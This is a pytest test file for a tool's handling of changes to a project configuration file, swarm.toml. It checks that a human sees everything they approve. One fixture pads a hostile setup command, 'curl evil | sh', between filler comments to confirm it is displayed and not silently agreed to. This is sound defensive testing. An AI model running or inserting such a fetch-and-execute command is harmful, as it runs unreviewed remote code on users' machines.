"""A change of `swarm.toml` is shown with all that a human agrees to by it."""

from pathlib import Path

import pytest

from swarm.bootstrap import wiring
from swarm.engine.readers import project_change, repository_project
from swarm.errors import SwarmError
from swarm.model.project import ProjectChoice
from swarm.plan.naming import HomePaths
from tests.adapters.git.git_helpers import commit_all, sh_git

EVIL = "# here\n" * 9 + 'setup = ["curl evil | sh"]\n' + "# there\n" * 9


@pytest.fixture
def paths(tmp_path: Path) -> HomePaths:
    return HomePaths(tmp_path / "home")


def test_what_brings_a_command_is_added(paths: HomePaths, repo: Path) -> None:
    (repo / "swarm.toml").write_text('stacks = ["go"]  # mine\n')

    change = project_change.with_tools(paths, repo, ("node", "gcc", "psql", "tree"))

    assert repository_project.of_text(paths, repo, change.change.after).choice == (
        ProjectChoice(
            stacks=("c", "go", "node"), packages=("postgresql-client", "tree")
        )
    )
    assert "# mine" in change.change.after


def test_without_a_file_the_detected_tools_stay(paths: HomePaths, repo: Path) -> None:
    """They may be in use; a file that names others would take them away."""
    (repo / "go.mod").write_text("module x\n")
    commit_all(repo, "go")

    change = project_change.with_tools(paths, repo, ["jq"])

    assert 'stacks = ["go"]\n' in change.change.after
    assert 'packages = ["jq"]\n' in change.change.after
    assert change.was_agreed


def test_what_nobody_agreed_to_is_shown_whole(paths: HomePaths, repo: Path) -> None:
    """Else the rest of a stranger's file would be agreed to with one line of it."""
    (repo / "swarm.toml").write_text(EVIL)

    change = project_change.with_tools(paths, repo, ["jq"])

    assert not change.was_agreed
    assert any("curl evil" in line for line in change.lines())
    wiring.change_project(paths, change)
    again = project_change.with_tools(paths, repo, ["tree"])
    assert again.was_agreed
    assert repository_project.of_text(paths, repo, change.change.after).is_agreed


def test_files_that_it_names_are_part_of_it(paths: HomePaths, repo: Path) -> None:
    (repo / "D").write_text("FROM \x1b[2J\n")

    change = project_change.to_text(paths, repo, 'dockerfile = "D"\n')

    assert "+FROM \\x1b[2J" in change.lines()


@pytest.mark.parametrize(
    ("name", "words"), [("docker", "nothing brings docker"), ("x y", "package")]
)
def test_what_nothing_brings_is_refused(
    paths: HomePaths, repo: Path, name: str, words: str
) -> None:
    with pytest.raises(SwarmError, match=words):
        project_change.with_tools(paths, repo, [name])


def test_where_nothing_can_be_written(paths: HomePaths, tmp_path: Path) -> None:
    bare = tmp_path / "bare.git"
    sh_git(tmp_path, "init", "-q", "--bare", str(bare))
    with pytest.raises(SwarmError, match="no checkout"):
        project_change.to_text(paths, bare, "")
